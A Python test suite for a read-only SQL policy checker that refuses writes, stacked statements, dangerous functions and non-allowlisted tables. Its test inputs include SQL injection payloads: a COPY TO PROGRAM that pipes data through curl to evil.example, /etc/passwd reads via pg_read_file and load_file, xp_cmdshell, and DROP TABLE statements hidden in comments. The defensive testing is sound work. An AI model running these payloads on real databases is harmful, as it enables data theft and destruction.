"""Read-only SQL: writes, stacked statements, dangerous functions and tables are refused
wherever they hide; reads that merely look alarming are allowed."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bastion.policy.sql import DEFAULT_DENIED_FUNCTIONS, READ_PRAGMAS, SqlRules, check_sql

DIALECTS = ["sqlite", "postgres", "mysql"]


def rule(sql: object, rules: SqlRules | None = None) -> str | None:
    refusal = check_sql(sql, rules or SqlRules())
    return refusal.rule if refusal else None


@pytest.mark.parametrize("dialect", [*DIALECTS, "duckdb", None])
@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 'delete from users' AS note",
        "SELECT * FROM updates",
        "SELECT * FROM inserts JOIN drops ON inserts.id = drops.id",
        "SELECT count(*) FROM orders WHERE status = 'insert'",
        "SELECT 1 -- DROP TABLE t",
        "/* DROP TABLE t; */ SELECT 1",
        "SELECT 'a; DROP TABLE t' AS s",
        "WITH recent AS (SELECT * FROM orders WHERE id > 10) SELECT * FROM recent",
        "SELECT a FROM t UNION SELECT b FROM u",
        "SELECT a FROM t INTERSECT SELECT b FROM u",
        "SELECT * FROM t WHERE id IN (SELECT id FROM u)",
        "SELECT 1;",
        "SELECT 1;  ",
        "SELECT 1; -- done",
        "SELECT 1;;",
    ],
)
def test_reads_that_look_alarming_are_allowed(dialect: str | None, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) is None


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", 'SELECT "drop" FROM t'),
        ("sqlite", 'SELECT "drop", [delete] FROM t'),
        ("mysql", "SELECT `drop` FROM t"),
        ("postgres", "SELECT $$DROP TABLE t$$ AS text"),
        ("postgres", "VALUES (1), (2)"),
        ("postgres", "(SELECT 1)"),
        ("postgres", "TABLE orders"),
        ("postgres", "SELECT * FROM generate_series(1, 3) AS g"),
        ("postgres", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r"),
        ("mysql", "SHOW TABLES"),
        ("mysql", "DESCRIBE orders"),
        ("mysql", "EXPLAIN SELECT * FROM orders"),
        ("sqlite", "PRAGMA table_info(orders)"),
        ("sqlite", "PRAGMA main.index_list('orders')"),
        ("sqlite", "SELECT * FROM pragma_table_info('orders')"),
    ],
)
def test_quoted_identifiers_literals_and_catalogue_reads_are_allowed(dialect: str, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) is None


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1; DROP TABLE t",
        "SELECT 1 /* */; DROP TABLE t",
        "SELECT 1; SELECT 2",
        "SELECT 1 -- x\n; DELETE FROM t",
    ],
)
def test_stacked_statements_are_refused(dialect: str, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) == "sql.stacked"


def test_max_statements_allows_several_but_checks_each() -> None:
    rules = SqlRules(dialect="postgres", max_statements=2)
    assert rule("SELECT 1; SELECT 2", rules) is None
    assert rule("SELECT 1; DELETE FROM t", rules) == "sql.write"
    assert rule("SELECT 1; SELECT 2; SELECT 3", rules) == "sql.stacked"


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(
    "sql",
    [
        "INSERT INTO t VALUES (1)",
        "UPDATE t SET a = 1",
        "DELETE FROM t",
        "DROP TABLE t",
        "CREATE TABLE x AS SELECT * FROM t",
        "CREATE TEMPORARY TABLE x (a INT)",
        "ALTER TABLE t ADD COLUMN b INT",
        "SELECT * FROM (SELECT 1) AS s WHERE EXISTS (SELECT 1 FROM t)  FOR UPDATE",
    ],
)
def test_writes_are_refused_in_every_dialect(dialect: str, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) == "sql.write"


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x"),
        ("postgres", "WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x"),
        ("postgres", "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x"),
        ("postgres", "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING"),
        ("postgres", "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2"),
        ("postgres", "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE"),
        ("postgres", "TRUNCATE t"),
        ("postgres", "GRANT ALL ON t TO mallory"),
        ("postgres", "REVOKE ALL ON t FROM alice"),
        ("postgres", "COPY t TO PROGRAM 'curl -d @- https://evil.example'"),
        ("postgres", "COPY t FROM '/etc/passwd'"),
        ("postgres", "COPY (SELECT * FROM t) TO '/tmp/out'"),
        ("postgres", "SELECT * INTO backup FROM users"),
        ("postgres", "SELECT * FROM t FOR SHARE"),
        ("postgres", "SELECT 1 UNION ALL SELECT 2 FROM t FOR UPDATE"),
        ("postgres", "SET default_transaction_read_only = off"),
        ("postgres", "BEGIN"),
        ("postgres", "COMMIT"),
        ("postgres", "ANALYZE t"),
        ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x"),
        ("sqlite", "DETACH DATABASE x"),
        ("sqlite", "PRAGMA writable_schema = 1"),
        ("sqlite", "PRAGMA journal_mode = OFF"),
        ("sqlite", "PRAGMA main.journal_mode = OFF"),
        ("sqlite", "PRAGMA user_version"),
        ("mysql", "EXPLAIN ANALYZE DELETE FROM t"),
        ("mysql", "EXPLAIN DELETE FROM t"),
        ("mysql", "SELECT 1 INTO @x"),
        ("mysql", "SELECT * FROM t LOCK IN SHARE MODE"),
        ("duckdb", "INSTALL httpfs"),
        ("tsql", "EXEC xp_cmdshell 'dir'"),
    ],
)
def test_writes_anywhere_in_the_tree_are_refused(dialect: str, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) == "sql.write"


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "DO $$ BEGIN PERFORM pg_sleep(1); END $$"),
        ("postgres", "CALL cleanup()"),
        ("postgres", "VACUUM"),
        ("postgres", "LOCK TABLE t"),
        ("postgres", "PREPARE p AS DELETE FROM t"),
        ("postgres", "NOTIFY channel"),
        ("sqlite", "REPLACE INTO t VALUES (1)"),
        ("sqlite", "VACUUM INTO '/tmp/copy.db'"),
        ("mysql", "REPLACE INTO t VALUES (1)"),
        ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t"),
        ("mysql", "SELECT * FROM t INTO OUTFILE '/tmp/x'"),
        ("mysql", "SELECT * INTO DUMPFILE '/tmp/x' FROM t"),
        ("mysql", "UPSERT INTO t VALUES (1)"),
        ("duckdb", "LOAD httpfs"),
        ("postgres", "SELECT FROM WHERE"),
        ("postgres", "-- only a comment"),
        ("postgres", ";"),
        ("postgres", "SELECT " + "(" * 300 + "1" + ")" * 300),
    ],
)
def test_what_sqlglot_cannot_read_is_refused(dialect: str, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) == "sql.unparsable"


def test_statements_sqlglot_cannot_read_are_refused_even_when_writes_are_allowed() -> None:
    rules = SqlRules(dialect="postgres", read_only=False)
    assert rule("DO $$ BEGIN DELETE FROM t; END $$", rules) == "sql.unparsable"
    assert rule("INSERT INTO t VALUES (1)", rules) is None


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("mysql", "SELECT 1 /*! , sleep(10) */"),
        ("mysql", "SELECT 1 /*!50000 INTO OUTFILE '/tmp/x' */"),
        (None, "SELECT 1 /*M! , sleep(10) */"),
        (None, "SELECT 1 --1, sleep(10)"),
        ("postgres", "SELECT 1 /* /* */ ; DROP TABLE t; /* */ */"),
        (None, "SELECT 1 /* /* */ ; DROP TABLE t; -- */"),
        ("mysql", "SELECT '\\'; DROP TABLE t; -- '"),
        ("postgres", "SELECT 'C:\\' || 'dir'"),
    ],
)
def test_text_servers_read_differently_from_sqlglot_is_refused(dialect: str | None, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) == "sql.ambiguous"


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "SELECT pg_read_file('/etc/passwd')"),
        ("postgres", "SELECT pg_catalog.pg_read_file('/etc/passwd')"),
        ("postgres", "SELECT PG_READ_FILE('/etc/passwd')"),
        ("postgres", "SELECT \"pg_read_file\"('/etc/passwd')"),
        ("postgres", "SELECT * FROM pg_ls_dir('/')"),
        ("postgres", "SELECT * FROM t WHERE id = (SELECT lo_export(1, '/tmp/x'))"),
        ("postgres", "SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd')) AS x"),
        ("postgres", "WITH x AS (SELECT pg_sleep(10)) SELECT * FROM x"),
        ("postgres", "SELECT * FROM dblink('host=evil', 'DELETE FROM t') AS r(a int)"),
        ("postgres", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')"),
        ("postgres", "SELECT nextval('orders_id_seq')"),
        ("postgres", "SELECT set_config('search_path', 'evil', false)"),
        ("sqlite", "SELECT load_extension('/tmp/evil.so')"),
        ("sqlite", "SELECT writefile('/tmp/x', 'data')"),
        ("mysql", "SELECT load_file('/etc/passwd')"),
        ("mysql", "SELECT sleep(10)"),
        ("mysql", "SELECT benchmark(100000000, md5('a'))"),
        ("duckdb", "SELECT * FROM read_csv('/etc/passwd')"),
        ("duckdb", "SELECT * FROM read_text('/etc/passwd')"),
        ("duckdb", "SELECT * FROM sqlite_scan('/tmp/other.db', 'users')"),
    ],
)
def test_denied_functions_are_refused_wherever_they_are_called(dialect: str, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) == "sql.function"


@pytest.mark.parametrize("dialect", [*DIALECTS, "duckdb"])
@pytest.mark.parametrize("name", DEFAULT_DENIED_FUNCTIONS)
def test_every_default_denied_function_is_refused_in_every_dialect(dialect: str, name: str) -> None:
    refusal = check_sql(f"SELECT {name}('x')", SqlRules(dialect=dialect))
    assert refusal is not None
    if name != "glob" or dialect == "duckdb":  # elsewhere glob() is the harmless GLOB operator
        assert refusal.rule == "sql.function"


def test_the_function_denylist_is_configurable() -> None:
    assert rule("SELECT pg_sleep(1)", SqlRules(dialect="postgres", denied_functions=())) is None
    assert rule("SELECT upper('a')", SqlRules(dialect="postgres", denied_functions=("UPPER",))) == "sql.function"


def test_functions_are_checked_even_when_writes_are_allowed() -> None:
    rules = SqlRules(dialect="postgres", read_only=False)
    assert rule("UPDATE t SET a = pg_read_file('/etc/passwd')", rules) == "sql.function"


ALLOWLISTED = SqlRules(dialect="postgres", tables=("orders", "public.customers"), schemas=("public",))


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM orders",
        "SELECT * FROM public.orders",
        "SELECT * FROM ORDERS",
        "SELECT * FROM customers",
        "SELECT * FROM public.customers c JOIN orders o ON o.customer_id = c.id",
        "WITH secret AS (SELECT * FROM orders) SELECT * FROM secret",
        "WITH a AS (SELECT * FROM orders), b AS (SELECT * FROM a) SELECT * FROM b",
        'WITH secret AS (SELECT 1) SELECT * FROM "secret"',
        "SELECT * FROM generate_series(1, 3)",
        "SELECT 1",
    ],
)
def test_allowlisted_tables_and_ctes_are_allowed(sql: str) -> None:
    assert rule(sql, ALLOWLISTED) is None


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM secrets",
        "SELECT * FROM orders o JOIN secrets s ON o.id = s.id",
        "SELECT * FROM orders, secrets",
        "SELECT * FROM orders WHERE id IN (SELECT order_id FROM secrets)",
        "SELECT (SELECT max(x) FROM secrets) FROM orders",
        "SELECT * FROM orders UNION SELECT * FROM secrets",
        "SELECT * FROM other.customers",
        'SELECT * FROM "ORDERS"',
        # A CTE is not visible outside its query, before its definition, or to itself unless recursive.
        "SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) AS a, secrets",
        "WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a",
        "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
        'WITH "SECRETS" AS (SELECT 1) SELECT * FROM secrets',
    ],
)
def test_tables_outside_the_allowlist_are_refused_in_joins_subqueries_and_shadowing_ctes(sql: str) -> None:
    assert rule(sql, ALLOWLISTED) == "sql.table"


def test_schemas_outside_the_allowlist_are_refused() -> None:
    assert rule("SELECT * FROM private.orders", ALLOWLISTED) == "sql.schema"
    assert rule("SELECT * FROM pg_catalog.pg_authid", SqlRules(dialect="postgres", schemas=("public",))) == "sql.schema"
    assert rule("SELECT * FROM public.anything", SqlRules(dialect="postgres", schemas=("public",))) is None


def test_show_and_pragma_are_refused_under_a_table_allowlist() -> None:
    assert rule("SHOW TABLES", SqlRules(dialect="mysql", tables=("orders",))) == "sql.table"
    assert rule("PRAGMA table_info(secrets)", SqlRules(dialect="sqlite", tables=("orders",))) == "sql.table"
    assert rule("DESCRIBE secrets", SqlRules(dialect="mysql", tables=("orders",))) == "sql.table"


def test_the_table_allowlist_also_binds_writes_when_writes_are_allowed() -> None:
    rules = SqlRules(dialect="postgres", read_only=False, tables=("orders",))
    assert rule("INSERT INTO orders VALUES (1)", rules) is None
    assert rule("INSERT INTO orders SELECT * FROM secrets", rules) == "sql.table"


@pytest.mark.parametrize("sql", ["SELECT * FROM '/etc/passwd'", 'SELECT * FROM "data.csv"', "SELECT * FROM 's3://b/k'"])
def test_tables_named_like_files_are_refused_without_any_allowlist(sql: str) -> None:
    assert rule(sql, SqlRules(dialect="duckdb")) == "sql.table"


@pytest.mark.parametrize("raw", [None, 1, b"SELECT 1", ["SELECT 1"], "", "   ", "SELECT 1\0; DROP TABLE t"])
def test_anything_but_text_is_refused(raw: object) -> None:
    assert rule(raw) == "sql.not_text"


def test_rules_reject_an_unknown_dialect_and_a_zero_statement_limit() -> None:
    with pytest.raises(ValueError, match="nosuch"):
        SqlRules(dialect="nosuch")
    with pytest.raises(ValueError, match="max_statements"):
        SqlRules(max_statements=0)


def test_read_pragmas_are_catalogue_reads() -> None:
    for name in READ_PRAGMAS:
        assert rule(f"PRAGMA {name}", SqlRules(dialect="sqlite")) is None


def test_reasons_quote_names_rather_than_echoing_the_statement() -> None:
    refusal = check_sql("SELECT pg_read_file('/etc/passwd')", SqlRules(dialect="postgres"))
    assert refusal is not None
    assert "'pg_read_file'" in refusal.reason
    assert "/etc/passwd" not in refusal.reason


@given(st.text(max_size=200), st.sampled_from([*DIALECTS, "duckdb", None]))
def test_any_text_gets_a_decision_not_an_exception(sql: str, dialect: str | None) -> None:
    refusal = check_sql(sql, SqlRules(dialect=dialect))
    assert refusal is None or refusal.rule.startswith("sql.")


_WRITE_KEYWORDS = ["INSERT INTO t VALUES (1)", "DELETE FROM t", "UPDATE t SET a = 1", "DROP TABLE t"]


@given(st.sampled_from(_WRITE_KEYWORDS), st.sampled_from(DIALECTS), st.sampled_from(["", " ", ";", "; "]))
def test_a_write_after_any_read_is_never_allowed(write: str, dialect: str, gap: str) -> None:
    assert rule(f"SELECT 1;{gap}{write}", SqlRules(dialect=dialect)) is not None


# Identifier injection and comment tricks.


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        (None, 'SELECT * FROM "users; DROP TABLE x"'),
        ("postgres", 'SELECT * FROM "users; DROP TABLE x"'),
        ("postgres", 'SELECT "a; DELETE FROM t" FROM t'),
        ("postgres", 'SELECT * FROM "users"";DROP TABLE x"'),
        ("mysql", "SELECT * FROM `users; DROP TABLE x`"),
        ("sqlite", "SELECT * FROM [users; DROP TABLE x]"),
        ("sqlite", 'SELECT * FROM "users -- x"'),
        ("postgres", 'SELECT "a /* x */" FROM t'),
        ("mysql", "SELECT 1 # a note"),
        ("mysql", "SELECT 1 # a note\n"),
        ("postgres", "SELECT 1 -- a note\r\n"),
        ("postgres", "SELECT 1 /* ; DROP TABLE t */"),
        ("postgres", "SELECT 1 # 2"),
    ],
)
def test_statements_inside_quoted_identifiers_and_comments_are_data(dialect: str | None, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) is None


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        (None, "SELECT * FROM users; DROP TABLE x"),
        ("postgres", 'SELECT * FROM "users"; DROP TABLE x'),
        ("mysql", "SELECT * FROM `users`; DROP TABLE x"),
        ("sqlite", "SELECT * FROM [users]; DROP TABLE x"),
        ("postgres", "SELECT 1 /* */; DROP TABLE t"),
        ("postgres", "SELECT 1 -- x\n; DROP TABLE t"),
        ("mysql", "SELECT 1 # x\n; DROP TABLE t"),
    ],
)
def test_a_second_statement_outside_quotes_is_stacked(dialect: str | None, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) == "sql.stacked"


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("mysql", "SELECT 1 # ; DROP TABLE t"),  # PostgreSQL reads `#` as XOR: the DROP would run there
        ("bigquery", "SELECT 1 # ; DROP TABLE t"),
        ("snowflake", "SELECT 1 // ; DROP TABLE t"),
        ("sqlite", "SELECT 1 -- x\r; DROP TABLE t"),  # PostgreSQL ends the comment at \r: the DROP would run
        ("postgres", "SELECT 1 -- x\r; DROP TABLE t"),
        ("mysql", "SELECT 1 # x\r; DROP TABLE t"),
        ("postgres", "SELECT 1 -- x\x0b; DROP TABLE t"),
        ("postgres", "SELECT 1 -- x\u2028; DROP TABLE t"),
        ("postgres", "SELECT 1 --; DROP TABLE t"),
        ("postgres", "SELECT 1 /* /* */ ; DROP TABLE t; /* */ */"),
    ],
)
def test_comments_that_hide_a_statement_from_some_servers_are_refused(dialect: str, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) == "sql.ambiguous"


# The read-only classifier: reads sqlglot cannot parse.


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "EXPLAIN SELECT * FROM orders"),
        ("postgres", "EXPLAIN ANALYZE SELECT * FROM orders WHERE id = 1"),
        ("postgres", "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT * FROM orders"),
        ("postgres", "EXPLAIN (ANALYZE false) SELECT 1"),
        ("postgres", "EXPLAIN VERBOSE WITH x AS (SELECT 1) SELECT * FROM x"),
        ("postgres", "EXPLAIN SELECT 'DELETE FROM t' AS note, \"update\" FROM t"),
        ("postgres", "EXPLAIN SELECT $$DROP TABLE t$$"),
        ("postgres", "explain select 1;"),
        ("postgres", "SHOW search_path"),
        ("postgres", "SHOW ALL"),
        ("postgres", "SHOW statement_timeout;"),
        ("sqlite", "EXPLAIN QUERY PLAN SELECT * FROM orders WHERE a = 'x'"),
        ("sqlite", "EXPLAIN SELECT 1"),
        ("duckdb", "EXPLAIN SELECT 1"),
        ("duckdb", "EXPLAIN ANALYZE SELECT 1"),
        (None, "EXPLAIN SELECT * FROM orders"),
        (None, "SHOW TABLES"),
        (None, "DESC orders"),
        (None, "DESCRIBE orders"),
        (None, "PRAGMA table_info(orders)"),
        ("postgres", "PRAGMA table_info(orders)"),
        ("duckdb", "PRAGMA table_info('orders')"),
        ("mysql", "EXPLAIN ANALYZE SELECT * FROM t"),  # ANALYZE runs a read: it was refused before
    ],
)
def test_reads_sqlglot_cannot_parse_are_judged_and_allowed(dialect: str | None, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) is None


@pytest.mark.parametrize(
    ("dialect", "sql", "expected"),
    [
        ("postgres", "EXPLAIN ANALYZE DELETE FROM t", "sql.write"),
        ("postgres", "EXPLAIN ANALYSE INSERT INTO t VALUES (1)", "sql.write"),
        ("postgres", "EXPLAIN (ANALYZE) UPDATE t SET a = 1", "sql.write"),
        ("postgres", "EXPLAIN (FORMAT JSON, ANALYZE true) DELETE FROM t", "sql.write"),
        ("postgres", "EXPLAIN ANALYZE WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "sql.write"),
        ("postgres", "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", "sql.write"),
        ("postgres", "EXPLAIN DELETE FROM t", "sql.write"),
        ("postgres", "EXPLAIN SELECT * FROM t FOR UPDATE", "sql.write"),
        ("postgres", "EXPLAIN ANALYZE SELECT pg_sleep(10)", "sql.function"),
        ("postgres", "EXPLAIN SELECT pg_read_file('/etc/passwd')", "sql.function"),
        ("sqlite", "EXPLAIN QUERY PLAN SELECT load_extension('/tmp/x.so')", "sql.function"),
        ("postgres", "EXPLAIN VACUUM", "sql.write"),
        ("postgres", "EXPLAIN ANALYZE EXECUTE p", "sql.write"),
        ("postgres", "SHOW x; DROP TABLE t", "sql.stacked"),
        ("postgres", "EXPLAIN SELECT 1; DELETE FROM t", "sql.stacked"),
        ("postgres", "EXPLAIN SELECT ';' ; DROP TABLE t", "sql.stacked"),
        ("postgres", "EXPLAIN SELECT 1 --x", "sql.ambiguous"),
        ("postgres", "EXPLAIN SELECT 1 /*!50000 , sleep(1) */", "sql.ambiguous"),
        ("postgres", "EXPLAIN SELECT 1 -- x\r; DROP TABLE t", "sql.stacked"),
        ("sqlite", "EXPLAIN SELECT 1 -- x\r; DROP TABLE t", "sql.ambiguous"),
        ("postgres", "EXPLAIN EXPLAIN SELECT 1", "sql.unparsable"),
        ("postgres", "EXPLAIN", "sql.unparsable"),
        ("postgres", "EXPLAIN SELECT 'unterminated", "sql.unparsable"),
        ("postgres", "EXPLAIN SELECT 1 /* unterminated", "sql.unparsable"),
        (None, "PRAGMA journal_mode = OFF", "sql.write"),
        (None, "PRAGMA user_version", "sql.write"),
    ],
)
def test_writes_and_tricks_the_classifier_sees_are_refused(dialect: str | None, sql: str, expected: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) == expected


def test_the_classifier_checks_each_of_several_statements() -> None:
    rules = SqlRules(dialect="postgres", max_statements=2)
    assert rule("SHOW search_path; SELECT 1", rules) is None
    assert rule("EXPLAIN SELECT 1; SHOW ALL", rules) is None
    assert rule("SHOW search_path; SET search_path = evil", rules) == "sql.write"
    assert rule("SHOW x; DROP TABLE t", rules) == "sql.write"
    assert rule("SHOW x; VACUUM", rules) == "sql.unparsable"
    assert rule("SHOW x; SHOW y; SHOW z", rules) == "sql.stacked"


def test_the_classifier_cannot_see_tables_so_an_allowlist_refuses_what_only_it_judges() -> None:
    rules = SqlRules(dialect="postgres", tables=("orders",))
    assert rule("EXPLAIN SELECT * FROM orders", rules) is None  # the explained statement is parsed in full
    assert rule("EXPLAIN SELECT * FROM secrets", rules) == "sql.table"
    assert rule("SHOW search_path", rules) == "sql.table"


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "DO $$ BEGIN DELETE FROM t; END $$"),
        ("postgres", "CALL cleanup()"),
        ("postgres", "VACUUM"),
        ("postgres", "LOCK TABLE t"),
        ("postgres", "NOTIFY channel"),
        ("postgres", "SELECT FROM WHERE"),
        ("mysql", "SELECT * FROM t INTO OUTFILE '/tmp/x'"),
    ],
)
def test_what_neither_sqlglot_nor_the_classifier_can_judge_is_still_refused(dialect: str, sql: str) -> None:
    assert rule(sql, SqlRules(dialect=dialect)) == "sql.unparsable"


@given(
    st.sampled_from(["EXPLAIN ANALYZE", "EXPLAIN", "EXPLAIN (ANALYZE)", "EXPLAIN VERBOSE"]),
    st.sampled_from([*_WRITE_KEYWORDS, "VACUUM t", "CALL p()", "COPY t TO '/tmp/x'", "SET a = 1"]),
    st.sampled_from(["postgres", "sqlite", "duckdb", None]),
)
def test_no_explain_of_a_write_is_ever_allowed(explain: str, write: str, dialect: str | None) -> None:
    assert rule(f"{explain} {write}", SqlRules(dialect=dialect)) is not None
